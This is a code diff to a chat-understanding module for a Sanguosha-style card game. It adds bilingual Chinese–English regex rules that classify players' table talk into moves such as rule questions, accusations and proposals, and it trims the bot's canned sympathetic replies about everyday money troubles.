+	return GOOD_LUCK.test(text) && !WISHED3.test(text) ? "luck_good" : null;
 }
 const HELLO = /大家好|各位.{0,3}好|(?:早上|晚上|下午|中午)好|早安|^(?:嗨|哈[喽啰罗]|hi|hello|hey|yo|heyo|howdy|sup|evening|morning)(?![a-z])|(?:大家|各位|兄弟们|朋友们)(?:早|晚)|\b(?:hello|hi|hey|heyo|evening|morning) (?:all|everyone|everybody|guys|folks|y'?all|there|friends)\b/;
 const MERCY = /手下留情|轻点|下手轻|别(?:欺负|虐|打|集火)|放过|多?(?:关照|担待|指教|包涵)|让着|\b(?:go easy|be (?:gentle|nice|kind)|have mercy|don'?t (?:be mean|bully|target)|easy on me)\b/;
@@ -31445,6 +31624,7 @@ function troubleIn(parts, moment) {
 	});
 	const told = own.map((i) => uncalled(parts[i] ?? NONE2)).join(",");
 	const again = matterIn(told);
+	if (again?.topic === "money" && OF_HAND.test(text)) return null;
 	if (!again?.trouble || own.every((i) => isOfHearer(parts[i] ?? NONE2))) return null;
 	const whose = whoseIn(told);
 	const others = whose !== null && EITHERS.has(again.matter) && befalls(told, again);
@@ -31486,6 +31666,7 @@ const befalls = (text, { matter, start, end }) => {
 		before
 	);
 };
+const OF_HAND = /[手张]牌|[一两半]张|手里|\b(?:cards?|hand)\b(?<!credit cards?)/;
 const FIGURE = /的感觉|(?:这|我这|简直)叫|属于是|(?:跟|像|好比).{1,10}(?:一样|似的|一般)|一样稳/;
 
 // src/chatter/moves/life/hear.ts
@@ -31500,13 +31681,13 @@ const ofChat = ({ matter, topic }, plain, parts) => {
 	const whose = whoseIn(plain);
 	return { life: { matter, trouble: false, ...whose ? { whose } : {} }, act: "topic", topic, parts };
 };
-const BESIDE2 = 4;
+const BESIDE3 = 4;
 const ASKS_ON = /^(?:那|你们?|都)*(?:叫(?:什么|啥)(?:名字?)?|(?:什么|啥)(?:名字|版本|型号))$|^(?:and )?(?:what'?s )?(?:your|ur) name$/;
 function asking(parts, all) {
 	const own = all.filter((i) => {
 		const part = parts[i];
 		const text = part === void 0 ? null : uncalled(part).trim();
-		return text !== null && (selfIn(text) !== null || text.length <= BESIDE2 || ASKS_ON.test(text));
+		return text !== null && (selfIn(text) !== null || text.length <= BESIDE3 || ASKS_ON.test(text));
 	});
 	return own.some((i) => selfIn(uncalled(parts[i])) !== null) ? own : all;
 }
@@ -31517,8 +31698,10 @@ function lifeIn(parts, text, moment) {
 	const joke = jokeIn(plain, last ?? "");
 	if (joke !== null && (joke === "joke_told" || !namesGame(plain))) return of2(joke, "other", "topic", all);
 	const self = selfIn(plain);
-	if (self !== null && (self === "cheat" || !namesGame(plain.replace(AFTER_GAME, " "))))
+	if (self !== null && (OF_GAME.has(self) || !namesGame(plain.replace(AFTER_GAME, " "))))
 		return of2(`self:${self}`, "self", "ask_self", asking(parts, all));
+	const table = tableIn(parts, plain);
+	if (table !== null) return of2(`table:${table}`, "cards", "ask_rule", all);
 	const hero = heroIn(parts, plain, moment);
 	if (hero !== null) return of2(`hero:${hero}`, "heroes", "topic", all);
 	const spoken = parts.some((part) => speaksOfSeat(part, moment));
@@ -31530,7 +31713,8 @@ function lifeIn(parts, text, moment) {
 	const luck = spoken ? null : luckIn(plain);
 	if (luck !== null && (luck === "luck_doomed" || !DEED4.test(plain))) return of2(luck, "luck", "topic", all);
 	const chat = spoken ? null : matterIn(plain);
-	const passing = gone !== null && (PASSING.has(chat?.matter ?? "") || gone.on === "fears");
+	const anew = gone?.on === "more" && (whoseIn(plain)?.named.zh ?? gone.before.whose?.named.zh) !== gone.before.whose?.named.zh;
+	const passing = gone !== null && !anew && (PASSING.has(chat?.matter ?? "") || gone.on === "fears");
 	if (chat && !passing && isChat(chat, plain, parts)) return ofChat(chat, plain, all);
 	const kept = gone ?? (spoken || chat ? null : goneOn(plain, text, moment, true));
 	if (!kept) return null;
@@ -31543,7 +31727,8 @@ function lifeIn(parts, text, moment) {
 		refersTo: confided.id
 	};
 }
-const isChat = (chat, plain, parts) => !chat.trouble && !mayBeGame(without2(plain, chat).replace(AFTER_GAME, " ")) && !AWAY.test(plain) && !STAKE.test(plain) && !parts.some(isOfHearerAlone);
+const OF_GAME = new Set(["cheat", "thinks", "feelings"]);
+const isChat = (chat, plain, parts) => !chat.trouble && !mayBeGame(without2(plain, chat).replace(AFTER_GAME, " ")) && !AWAY.test(plain) && !ON_KEYS.test(plain) && !STAKE.test(plain) && !parts.some(isOfHearerAlone);
 const PASSING = new Set([
 	"late",
 	"hungry",
@@ -31561,9 +31746,12 @@ const isOfHearerAlone = (part) => isOfHearer(part) && !/[?吗呢么]|们|\byou (
 const DEED4 = /[砍打杀救](?:了|到|中)|被.{0,4}(?:拆|砍|打|杀|顺|乐)|\b(?:hit|killed|saved|stole)\b/;
 const AFTER_GAME = /打完(?:这|这一)?[把局盘]?|(?:这|这一)[把局盘](?:打|完|结束)(?:完|了)?|\bafter (?:this|the) (?:game|one|round)\b/g;
 const STAKE = /赌|输(?:了)?的|请(?:你|各位|全|大家)|罚|\b(?:loser|bets?|buys?|owe|on the line|pays?)\b/;
-const AWAY = /(?:喊|叫)我(?:吃|回|去|洗|睡|收|拿|接)|(?:外卖|快递|奶茶).{0,2}到了|(?:拿|取|接|倒)(?:个|下|一下)?(?:外卖|快递|电话|水)|马上(?:就)?回|等(?:我|下我)|厕所|键盘|[踩碰]|\b(?:brb|afk|doorbell|back in)\b/;
+const ON_KEYS = /键盘|[踩碰]/;
 function heroIn(parts, text, moment) {
+	const seated = parts.flatMap((part) => part.mentions.filter((one) => !one.called && isHeroNamed(one, part.text)));
 	const free = parts.map(unnamed).join(",");
+	const of = seatedKindIn(text, new Set(seated.map(({ seat }) => seat)).size + heroesNamed(free).length);
+	if (of !== null && (seated.length > 0 || of === "feared" || of === "suits")) return of;
 	const named = heroesNamed(text);
 	const kind = heroKindIn(text, named, heroesNamed(free).length > 0);
 	if (kind === null) return null;
@@ -31573,7 +31761,6 @@ function heroIn(parts, text, moment) {
 	const game = named.length > 0 ? mayBeGame(bare.replace(/\bthis game\b/g, " ")) : namesGame(bare);
 	return game || parts.some((part) => speaksOfSeat(part, moment)) ? null : kind;
 }
-const OF_PLAY = /反贼|内奸|忠臣|是[反忠内]|一伙|先(?:打|杀|砍)|集火|可疑|\b(?:rebels?|spy|loyalist|traitor|suspicious)\b/;
 
 // src/chatter/moves/life/unnamed.ts
 const GAME_AT_MOST = 0.3;
@@ -31609,7 +31796,7 @@ function lifeByWording({ text, mentions, moves, confided }) {
 	const by = likelyKinds(text, mentions);
 	const kind = likeliest2(by);
 	if (own !== void 0)
-		return kind === "trouble" && by.trouble >= SURELY3 && !mayBeGame(text) ? worded2(kind, text) : null;
+		return kind === "trouble" && by.trouble >= SURELY3 && !mayBeGame(text) && !isGrumble(own.matter) ? worded2(kind, text) : null;
 	const before = confided?.asked.life;
 	const behind = before !== void 0 && isConfided(before) && before.trouble && !mayBeGame(text);
 	if (behind && confided !== null && (kind === "trouble" || kind === "chat" && by.chat < KIND_AT_LEAST) && by.game <= GAME_BEHIND_TROUBLE && stays(text))
@@ -31696,9 +31883,52 @@ function undertakingIn(text, mentions, from, you) {
 	const to = aimed ?? given ?? named ?? you;
 	if (to === null) return null;
 	const what = SPARE2.test(text) ? "spare" : HELPS_ATTACK.test(text) ? "attack" : PROTECT.test(text) ? "protect" : ATTACK2.test(text) ? "attack" : null;
-	if (what === null) return null;
+	const struck = mentions.some(({ seat, start }) => seat === to && start > text.indexOf("我"));
+	if (what === null || what === "attack" && to === you && aimed === null && !struck) return null;
 	return { what, to, until: untilIn(text) ?? (what === "protect" && IN_NEED.test(text) ? "game" : "round") };
 }
+
+// src/chatter/moves/rules-asked.ts
+const HOW2 = /怎么(?!看|办|想)|咋(?!看|办|想)|为(?:什么|啥|何)|bug|什么操作|\b(?:how(?! many)|why|bug)\b/;
+const ASKED5 = [
+	[
+		/跳[反忠内]|集火|盲狙|卖血|苟|划水|补刀|aoe|表忠|\b(?:jump\w*|focus fire)\b/,
+		/(?:什么|啥)(?:叫|是|意思|玩意)|黑话|几个意思|\b(?:what'?s|what (?:is|does|do)|wtf|mean(?:s|ing)?)\b/
+	],
+	// "我咋被横过来了，这链子有啥坏处".
+	[
+		/横(?:着|置|过来)|链子|[锁连链]着|\bchain(?:ed|s)\b/,
+		/(?:什么|啥|没有|有).{0,2}(?:坏处|影响|后果|用|效果|事)|会(?:怎么?样|咋样)|咋办|\b(?:bad|mean|what|matter|effect)\b/
+	],
+	// "杀一回合能出几张", "he slashed 3 times how is that legal".
+	[
+		/杀|\b(?:slash|strike)(?:e[sd]|ed)?\b/,
+		/回合|\b(?:turn|times|twice|more than one)\b/,
+		/(?:能|可以|最多).{0,3}(?:出|几|多少|用|两)|\b(?:can|legal|allowed|limit|max)\b/
+	],
+	// "wait how does one slash do 2 dmg, is that a bug".
+	[
+		/一[刀杀张下箭]|杀|\b(?:slash|strike|hit|one)\b/,
+		/[两二俩2](?:点|滴|格)?(?:血|伤)|双倍|\b(?:2|two|double) ?(?:dmg|damage|hp|health)\b/,
+		HOW2
+	],
+	// "uh why am i down a hp?? that slash wasnt even on me".
+	[
+		/[掉扣少没]了?.{0,4}血|\b(?:lose|lost|down|losing|took|take)\b.{0,14}\b(?:hp|health|dmg|damage)\b/,
+		/(?:没|不是)(?:人)?(?:打|砍|冲|朝|杀|碰)(?:着|到)?我|\b(?:\w+n'?t|not|nobody|no one)\b.{0,14}\b(?:on|at|hit|touch\w*|aim\w*)(?: at)? me\b/
+	],
+	// "i had lebu on zuo fen, how'd she still get to slash".
+	[
+		/乐(?!的|了我)|兵粮|\b(?:lebu|contentment|bingliang|supply|shortage)\b/,
+		HOW2,
+		/还能|还可以|没(?:用|中|生效)|\b(?:still|didn'?t work)\b/
+	]
+];
+const ELSE2 = /谁|凭|\bwho\b|\b(?:u|you) think\b/;
+const asksOfRules = (text) => !ELSE2.test(text) && ASKED5.some((all) => all.every((one) => one.test(text)));
+const asksPlainly = (text) => /说人话|(?:没|不)(?:太)?懂.{0,4}(?:简单|直白|再说|解释)|(?:简单|直白|通俗)(?:点|些)|\b(?:in (?:plain|simple) (?:words|english|terms)|like i'?m (?:5|five)|dumb (?:it|that) down|eli5)\b/.test(
+	text
+);
 
 // src/chatter/moves/role-asked.ts
 function roleAsked({ at, text: all }) {
@@ -31833,9 +32063,11 @@ const WORDS3 = {
 	probs: "probably",
 	def: "definitely",
 	defo: "definitely",
-	obv: "obviously"
+	obv: "obviously",
+	uve: "you've"
 };
 const CONTRACTED = /^(who|what|where|how|that|there|he|she|let)(s)$|^(why|who|what|how)(d)$|^(you|they)(re)$|^(you|they|we|i)(ve)$|^(do|does|did|ca|wo|is|are|was|were|have|has|had|could|would|should|ai)n(t)$/;
+const DROPS_G = /^(?:go|do|try|play|com)in$/;
 const YOU_ARE = /^ (?:an?|the|not|so|just|really|clearly|definitely|probably|one|gonna|dead|done|next|right|wrong|on|in|sus|up|a?lright|too|[a-z]{2,}ing)\b/;
 const ASKS_WHY = /^ (?:tho|did|do|does|are|r|me|would|not|is|am|the|you|u)\b/;
 const CALLED_NAMES = /^(?:you|u|ya) (?:\w+ )?(?:clown|muppet|idiot|moron|fool|donkey|noob|dog|rat|snake|coward|liar|git|numpty|weirdo|monster|menace|legend|beauty|beast|hero|star|genius|animal|savage|psycho|scum|pig|dummy|bastard)s?(?:$| lol)/;
@@ -31847,6 +32079,7 @@ function written3(word, before, after) {
 	if (word === "y") return ASKS_WHY.test(after) ? "why" : word;
 	if (word === "fan" || word === "fans")
 		return IS_REBEL.test(before) && !/^ of\b/.test(after) ? `rebel${word.slice(3)}` : word;
+	if (DROPS_G.test(word)) return `${word}g`;
 	const plain = WORDS3[word];
 	if (plain !== void 0) return plain;
 	const parts = CONTRACTED.exec(word)?.filter((part) => part !== void 0) ?? [];
@@ -31888,9 +32121,13 @@ const WHETHER = new RegExp(
 );
 const asksWhether = (text) => WHETHER.test(text);
 const asksWhich = (text) => WHICH.test(text);
-const PAST3 = /[了过](?:[的吗吧呢啊]|$)|刚|[上那]一?[次回轮刀]/;
+const PAST3 = /[了过](?:[的吗吧呢啊]|$)|刚|[上那][一两几]?[次回轮刀]/;
+const EITHER = /还是(?!.*的$)|\b(?:(?:are )?(?:you|u)|gonna|help) .{2,}\bor (?!what\b|not\b|something)\w/;
+const ACTS4 = /[打杀砍收拆捅踹踩救帮拉保护奶盯]|停手|\b(?:help|kick|finish|hit|kill|strik|attack|sav|chill|go)\w*/;
 function choiceIn(clause) {
 	const { text, at } = clause;
+	if (clause.youNamed && EITHER.test(text) && ACTS4.test(text) && !PAST3.test(text) && !ANY_ROLE.test(text))
+		return clause.move("ask_plan", { about: clause.other });
 	if (asksWhether(text)) return clause.move("ask_plan");
 	const third = at.mentions.find(({ kind, called }) => kind === "seat" && !called);
 	const ofThird = third !== void 0 && third.start === 0 && third.seat !== clause.hearer;
@@ -31981,6 +32218,7 @@ const DEAD = new RegExp(
 		`(?:谁|哪几个|哪些人?)(?:已经|都)?(?:死了|没了|阵亡了?|出局了?|挂了)${END3}`,
 		"\\b(?:has|did|is) any(?:one|body) (?:died?|dead|been killed|out)\\b",
 		"\\bany(?:one|body) (?:dead|died|out)(?: yet| so far)?\\b",
+		"\\bhow many (?:\\w+ ){0,3}(?:died|dead)\\b",
 		"\\bwho(?:'s|s| is| has)? (?:already )?(?:dead|died)\\b"
 	].join("|")
 );
@@ -32012,6 +32250,8 @@ function refer({ at, other }) {
 		refersTo: last.id
 	};
 }
+const BARE_WHY = /\bwhy (?!did|does|was|are|would|not|the|has|seat)[a-z]{3,} /;
+const RATHER = /\bme\b.*\b(?:not|instead of|rather than|over)\b|我.*(?:不(?:是|去?[打砍杀拆动找])|而不)/;
 function why(clause) {
 	const { at, hearer } = clause;
 	const suspects = clause.has(/怀疑|觉得|认为|(?<!不)说(?!话)|猜|信|think|suspect|say|trust|believe/) || at.said.length > 0;
@@ -32026,13 +32266,16 @@ function why(clause) {
 			role: roleAsked(clause) ?? refer(clause).role
 		});
 	}
-	const feud = clause.has(/惹|招|得罪|欠|仇/);
+	const feud = clause.has(/惹|招|得罪|欠|仇|恨|怨|过节/);
 	if (facts.length === 0 && (clause.other === void 0 || feud) && at.told.length > 0)
 		return clause.move("ask_why", { facts: at.told, about: at.told.find(({ by: by2 }) => by2 !== void 0)?.by });
+	if (clause.hearer !== null && clause.selfNamed && clause.has(RATHER))
+		return clause.move("ask_why", { about: clause.hearer });
 	const by = clause.doerOf(facts);
+	const doer = BARE_WHY.test(clause.text) && clause.hearer !== null ? clause.hearer : void 0;
 	return clause.move("ask_why", {
 		...facts.length > 0 ? { facts } : {},
-		about: by ?? (feud && clause.youNamed ? hearer : clause.other) ?? hearer ?? void 0
+		about: by ?? doer ?? (feud && clause.youNamed ? hearer : clause.other) ?? hearer ?? void 0
 	});
 }
 
@@ -32087,6 +32330,9 @@ function asking2(clause) {
 	if (clause.has(HELP_CALLED) && clause.deeds.every(({ past: past2 }) => !past2))
 		return [clause.move("plead", { about: lordOrSelf(clause) })];
 	if (clause.has(BEGS)) return [clause.move("plead", { about: clause.from })];
+	const friend = at.mentions.filter(({ kind, seat, called }) => kind === "seat" && !called && seat !== clause.hearer);
+	if ((asked || clause.has(/([当算])不\1|敌/)) && friend.length > 0 && clause.has(REGARDED))
+		return [clause.move("ask_guess", { about: friend.pop()?.seat ?? void 0, role: "zhong" })];
 	if (clause.has(ROLE_WANTED) && !clause.selfNamed)
 		return [clause.move("ask_role", { about: clause.other ?? clause.hearer ?? void 0 })];
 	if (clause.has(HELP) && !clause.has(NO_PLEA) && !clause.has(THANKS) && !clause.has(WHY) && !isTold6(clause))
@@ -32143,9 +32389,12 @@ function asking2(clause) {
 	if (clause.has(AGREED) && clause.deeds.length === 0 && clause.lately !== void 0 && clause.lately !== clause.hearer)
 		return [clause.move("ask_guess", { about: clause.lately, refersTo: at.moment.exchanges[0]?.id })];
 	if (HOW_TO_PLAY.test(text)) return [clause.move("ask_plan", { about: clause.other })];
+	if (deed && clause.has(TWO_READINGS)) return [clause.move("ask_why", { about: deed.by, facts: at.told })];
 	const choice = choiceIn(clause) ?? takenLyingDown(clause);
 	if (choice) return [choice];
-	if (clause.has(WHY) && !clause.has(NOT_ASKED) && !isOutside(clause) || clause.has(/(?:咋|怎么)想的|有.{0,4}仇/) && doneByHearer(clause))
+	if (clause.has(WHY) && !clause.has(NOT_ASKED) && !isOutside(clause) || clause.has(/(?:咋|怎么)想的|有.{0,4}仇/) && doneByHearer(clause) || // "成济砍采薇两血,记恨她啥啊": what was told just before is to be accounted for.
+	deed && asked && clause.has(/(?:恨|惹|得罪|招|欠|怨|过节|仇).{0,4}(?:啥|什么|哪)/) || // "7号你拿走闪电是想干嘛".
+	clause.has(/是想[干做][嘛啥什]/) && clause.deeds.length > 0)
 		return [why(clause)];
 	if (!asked) return null;
 	const past = clause.deeds.filter((deed) => told4(deed) || isDone(deed, clause));
@@ -32202,6 +32451,7 @@ const seeksCompany = (clause) => clause.has(COMPANY) && !clause.has(NEARLY2) && 
 const WAS_AGREED = /^(?:不是|明明|之前|刚才?)?(?:都)?(?:说|讲)好/;
 const AGREED = /\b(?:you|u|ya) agree\b|你(?:也)?(?:同意|赞成|这么(?:看|想|觉得))(?:吗|么|不|吧)?$/;
 const HOW_TO_PLAY = /^(?:那|你)?(?:咋|怎么|咋个)(?:打|办|出牌?)(?:啊|呢|呀)?$/;
+const TWO_READINGS = /^(?:这|那)?(?:是|图|算)(?!.*你).{2,}还是|^(?:is (?:that|it|this)|just|was that) .{2,} or /;
 const YET_TO_COME = /下|接下来|待会|等会|然后|\bnext\b/;
 const isOpen5 = ({ at }, seat) => at.moment.scene.table.bySeat.get(seat)?.revealed != null;
 function hiddenOne(clause) {
@@ -32340,7 +32590,8 @@ function judging(clause) {
 		else if (clause.has(TAKEN_FOR) && clause.has(TRUSTED2))
 			return [clause.move("blame", { about: clause.about ?? spokenOf(clause) })];
 		else if (clause.has(TRUSTED2)) found.push(clause.move("vouch", { about: clause.about ?? spokenOf(clause) }));
-		else if (clause.has(SUSPECTED)) found.push(clause.move("accuse", { about: suspectOf(clause) }));
+		else if (clause.has(SUSPECTED) && suspectOf(clause) !== from)
+			found.push(clause.move("accuse", { about: suspectOf(clause) }));
 	}
 	if (found.length === 0 && !asked && clause.has(TOLD))
 		for (const { about: about2, role, denied } of him ? [him] : at.said.slice(0, 1))
@@ -32359,9 +32610,9 @@ function suspectOf(clause) {
 	return about === clause.at.moment.scene.table.lord ? clause.doerOf(clause.at.told) : about;
 }
 const theTwo = ({ text, hearer }) => /你们?俩|你们/.test(text) ? hearer ?? void 0 : void 0;
-const KIN3 = /[妈爸爹娘爷奶姥哥姐弟妹叔姨舅婆公](?!公)|儿子|女儿|孩子|老师|同事|朋友|猫|狗|\b(?:mom|mum|dad|mother|father|wife|husband|son|daughter|dog|cat)\b/;
+const KIN3 = new RegExp(`${CLOSE2}|老师|同事|朋友|${CLOSE_EN}`);
 const NEARLY_DEAD_HP = 1;
-const OF_GAME = /血|桃|牌|回合|南蛮|万箭|\bhp\b/;
+const OF_GAME2 = /血|桃|牌|回合|南蛮|万箭|\bhp\b/;
 function standing3(clause) {
 	const { text, from, other } = clause;
 	const last = other === void 0 && clause.has(LAST_HP);
@@ -32370,10 +32621,11 @@ function standing3(clause) {
 	const about = other ?? (clause.youNamed ? clause.hearer : clause.selfNamed ? from : spokenOf(clause));
 	if (about === void 0 || about === null) return null;
 	const { hp } = clause.at.moment.scene.table.bySeat.get(about) ?? { hp: 0 };
-	if (about === from && hp > NEARLY_DEAD_HP && !OF_GAME.test(text)) return null;
+	if (about === from && hp > NEARLY_DEAD_HP && !OF_GAME2.test(text)) return null;
 	return [clause.move("report", { about })];
 }
 const AT_YOU = /(?:弄|砍|杀|打|收拾|集火|干|灭|捅|剁)(?:死|了)?(?:你|您)|\b(?:kill|hit|get|end) (?:you|u)\b/;
+const UNLESS = /^不先?(?:[杀打砍收灭弄]|放倒|解决|干掉)|\b(?:cant|can'?t|wont|won'?t) win (?:unless|until|till)\b/;
 function doing(clause) {
 	const { text, at, from, hearer } = clause;
 	const past = clause.deeds.some(told4);
@@ -32389,7 +32641,8 @@ function doing(clause) {
 	const [first] = clause.deeds;
 	if (!past && clause.has(/我就(?:跟|上)/) && typeof first?.to === "number")
 		return [clause.move("propose", { about: first.to })];
-	if (!past && clause.has(PROPOSE))
+	if (clause.other !== void 0 && clause.has(UNLESS)) return [clause.move("propose", { about: clause.other })];
+	if (!past && (clause.has(PROPOSE) || clause.has(TRUCE)))
 		return [
 			clause.move("propose", { about: targetOf(clause) ?? (clause.has(/投|认输/) ? spokenOf(clause) : void 0) })
 		];
@@ -32441,7 +32694,7 @@ function telling(clause) {
 const holder = (clause) => clause.other ?? (clause.selfNamed ? clause.from : clause.youNamed ? clause.hearer ?? void 0 : void 0);
 const isOver3 = ({ verb, to }, { at }) => (verb === "kill" || verb === "strike") && typeof to === "number" && at.moment.scene.table.bySeat.get(to)?.alive === false;
 const isTold7 = ({ by, to, start, end }, { from, asked, text, at, hearer }) => !asked && !(at.offered === true && (by === from || by === hearer)) && // "主公这轮弄8": what is still to be done.
-!(/这(?:一)?(?:轮|回合|圈)|本回合|下(?:一)?(?:刀|手)|\bnext (?:turn|round)\b/.test(text.slice(0, start)) && !/[了过]/.test(text.slice(end))) && !SUPPOSED2.test(text) && !FORETOLD.test(text) && !/别|不要|不许|不准|休想|倒是|给我|[替帮]我|快|赶紧/.test(text.slice(0, start)) && typeof by === "number" && typeof to === "number" && (to === from || by !== from) && by !== to;
+!(/这(?:一)?(?:轮|回合|圈)|本回合|下(?:一)?(?:刀|手|张)|\bnext (?:turn|round)\b/.test(text.slice(0, start)) && !/[了过]/.test(text.slice(end))) && !SUPPOSED2.test(text) && !FORETOLD.test(text) && !/别|不要|不许|不准|休想|倒是|给我|[替帮]我|快|赶紧/.test(text.slice(0, start)) && typeof by === "number" && typeof to === "number" && (to === from || by !== from) && by !== to;
 const ofOthers2 = ({ at, youNamed, selfNamed, other }) => !selfNamed && (youNamed || other !== void 0 || /你们?俩|你们/.test(at.text));
 const BRIEF = 4;
 function feeling2(clause) {
@@ -32515,18 +32768,21 @@ const verbatimAt = (line, at) => line.verbatim === line.text ? at : line.reading
 const within4 = (at, { start, end }) => at >= start && at < end;
 function movesIn(line, moment) {
 	const { moves, mentions, whole, dark } = heardIn(line, moment);
+	if (asksOfRules(line.verbatim) || asksPlainly(line.verbatim)) return [{ act: "ask_rule", span: whole.span }];
 	const life = lifeByWording({ text: line.verbatim, mentions, moves, confided: moment.confided ?? null });
-	if (life) {
-		const { from, hearer } = moment;
-		return [ofLife(life, { from, you: mentions.find(({ called }) => called)?.seat ?? hearer, span: whole.span })];
-	}
+	const { from, hearer } = moment;
+	const you = mentions.find(({ called, seat }) => called && seat !== from)?.seat ?? hearer;
+	if (life) return [ofLife(life, { from, you, span: whole.span })];
 	const acts = moves.map(({ act }) => act).filter((act) => act !== "unclear");
 	const settled = settle3(
 		moves,
 		() => likelyActs(wordingOf(line.verbatim, mentions, acts)),
 		() => new Clause(whole)
 	);
-	return dark !== null && settled.every(({ act }) => act === "unclear") ? [loosely(dark)] : settled;
+	const read = dark !== null && settled.every(({ act }) => act === "unclear") ? [loosely(dark)] : settled;
+	return read.map(
+		(one) => one.act === "ask_role" && you !== null && one.about !== void 0 && one.about !== you && one.about !== from ? { ...one, act: "ask_guess" } : one
+	);
 }
 const endOf = (which, parts) => parts[which[which.length - 1] ?? -1]?.end;
 const ofLife = ({ life, act, topic, refersTo }, { from, you, span }) => ({
@@ -32584,6 +32840,8 @@ function heardIn(line, moment) {
 			continue;
 		}
 		if (parts.length > 1 && INTERJECTION.test(part.text.trim())) continue;
+		if (TAG.test(withoutCalls(owned[i] ?? { text: part.text, mentions: [] }, you)) && moves.some(({ act }) => /^(?:propose|promise|order)$/.test(act)))
+			continue;
 		const span2 = rawSpan2(line, part.start, part.end);
 		if (i === 0 && parts.length > 1 && asksBehind(owned)) {
 			carried = called ?? carried;
@@ -32613,10 +32871,11 @@ function heardIn(line, moment) {
 		const read = referring(at) ?? readClause(at);
 		moves.push(...read);
 		if (read.some(({ act }) => act === "unclear") && (!dark || at.asked)) dark = at;
-		const deed = read.flatMap(({ facts = [] }) => facts).pop();
+		const deed = read.flatMap(({ facts: facts2 = [] }) => facts2).pop();
 		afterDeed = deed !== void 0;
 		befell = deed?.to ?? null;
-		told = read.flatMap(({ facts = [] }) => facts);
+		const facts = read.flatMap((one) => one.facts ?? []);
+		told = facts.length > 0 || own.some(({ kind }) => kind === "seat") ? facts : told;
 		const others = own.filter((one) => one.kind === "seat" && !one.called && one.seat !== from);
 		const other = others[0]?.seat ?? null;
 		const doer = others.find(({ start }) => !DONE_TO.test(words.slice(0, start)))?.seat ?? null;
@@ -32794,27 +33053,18 @@ function handText(scene, seat, who, language) {
 
 // src/chatter/plan/life/words/daily.ts
 const OF_OTHERS2 = {
-	zh: ["{kin}碰上这事，你也跟着揪心。", "有你惦记着，{kin}也算有个靠。", "愿{kin}顺顺当当过了这一关。"],
-	en: [
-		"That's hard on {kin}, and on you.",
-		"It's good of you to be there for {kin}.",
-		"I hope it turns out well for {kin}."
-	]
+	zh: ["{kin}碰上这事，你也跟着揪心。", "有你惦记着，{kin}也算有个靠。"],
+	en: ["That's hard on {kin}, and on you.", "It's good of you to be there for {kin}."]
 };
 const DAILY_TROUBLES = {
 	debt: {
 		what: { zh: "账上压得紧", en: "debt weighs on you" },
 		after: { zh: "账还得顺些了么", en: "is the debt any lighter" },
 		said: {
-			zh: [
-				"欠着账睡不踏实，我懂。先列清楚，一笔笔来。",
-				"只还最低，利滚利最吃人。能多还一点是一点。",
-				"这压力不小。跟银行谈谈分期，别再借新的。"
-			],
+			zh: ["欠着账睡不踏实，我懂。先列清楚，一笔笔来。", "只还最低，利滚利最吃人。能多还一点是一点。"],
 			en: [
 				"Debt is a heavy thing to carry. List it all, then go one by one.",
-				"That's stressful. Ask the bank about a payment plan before it grows.",
-				"You're not alone in that. Small payments still move it down."
+				"That's stressful. Ask the bank about a payment plan before it grows."
 			]
 		}
 	},
@@ -32822,15 +33072,10 @@ const DAILY_TROUBLES = {
 		what: { zh: "房租压人", en: "rent is eating you up" },
 		after: { zh: "房租的事谈妥了么", en: "did the rent work out" },
 		said: {
-			zh: [
-				"房租说涨就涨，工资不跟着涨，真叫人头大。",
-				"住的事最磨人。跟房东还个价，不丢人。",
-				"挣的都交了房租，心里不是滋味。"
-			],
+			zh: ["房租说涨就涨，工资不跟着涨，真叫人头大。", "住的事最磨人。跟房东还个价，不丢人。"],
 			en: [
 				"Rent keeps climbing and pay doesn't. That's rough.",
-				"Ugh, rent. It never hurts to talk to the landlord early.",
-				"Half the month's pay just for a roof; I'd sigh too."
+				"Ugh, rent. It never hurts to talk to the landlord early."
 			]
 		}
 	},
@@ -32838,15 +33083,10 @@ const DAILY_TROUBLES = {
 		what: { zh: "你被人骗了", en: "you were scammed" },
 		after: { zh: "被骗的钱追回来些没", en: "did you get any of the money back" },
 		said: {
-			zh: [
-				"骗子专挑好人下手，不是你笨。报警了没有？",
-				"赶紧报警，找银行止付，能追一点是一点。",
-				"钱没了气人，先别责怪自己。"
-			],
+			zh: ["骗子专挑好人下手，不是你笨。报警了没有？", "赶紧报警，找银行止付，能追一点是一点。"],
 			en: [
 				"Scammers fool clever people every day. Have you told your bank?",
-				"I'm so sorry. Report it quickly; sometimes it can be stopped.",
-				"That's awful. It's the crook's fault, not yours."
+				"I'm so sorry. Report it quickly; sometimes it can be stopped."
 			]
 		}
 	},
@@ -32854,23 +33094,18 @@ const DAILY_TROUBLES = {
 		what: { zh: "你亏了钱", en: "you lost money" },
 		after: { zh: "亏的那笔，缓过来些没", en: "have you got over that loss" },
 		said: {
-			zh: ["亏了钱心口疼，可别急着翻本。", "先关掉软件睡一觉，明天再看。", "市场比牌桌还狠，留点本钱最要紧。"],
-			en: [
-				"That hurts. Please don't chase the loss.",
-				"Markets are crueller than this table. Step away for a night.",
-				"Ouch. Keep what's left safe before you try again."
-			]
+			zh: ["亏了钱心口疼，可别急着翻本。", "先关掉软件睡一觉，明天再看。"],
+			en: ["That hurts. Please don't chase the loss.", "Markets are crueller than this table. Step away for a night."]
 		}
 	},
 	broke: {
 		what: { zh: "手头紧", en: "money is tight" },
 		after: { zh: "手头宽些了么", en: "is money any easier" },
 		said: {
-			zh: ["手头紧的日子谁都有过，先把饭吃饱。", "穷不丢人，熬到发工资就好了。", "省着点花，这桌打牌不要钱。"],
+			zh: ["手头紧的日子谁都有过，先把饭吃饱。", "穷不丢人，熬到发工资就好了。"],
 			en: [
 				"Being broke is exhausting. Payday will come.",
-				"Tight months happen to everybody. At least this table is free.",
-				"I hear you. Eat first, worry after."
+				"Tight months happen to everybody. At least this table is free."
 			]
 		}
 	},
@@ -32878,31 +33113,18 @@ const DAILY_TROUBLES = {
 		what: { zh: "碰上倒霉事", en: "you had rotten luck" },
 		after: { zh: "那桩倒霉事办妥了么", en: "did that mess get sorted" },
 		said: {
-			zh: [
-				"这也太倒霉了。人没事就好，东西慢慢补。",
-				"摊上这种事真闹心，一样一样来。",
-				"倒霉事都赶一块了，歇口气再去办。"
-			],
-			en: [
-				"What rotten luck. At least you're all right.",
-				"That would ruin my day as well. One thing at a time.",
-				"Ugh, what a pain. I hope it gets sorted quickly."
-			]
+			zh: ["这也太倒霉了。人没事就好，东西慢慢补。", "摊上这种事真闹心，一样一样来。"],
+			en: ["What rotten luck. At least you're all right.", "That would ruin my day as well. One thing at a time."]
 		}
 	},
 	insomnia: {
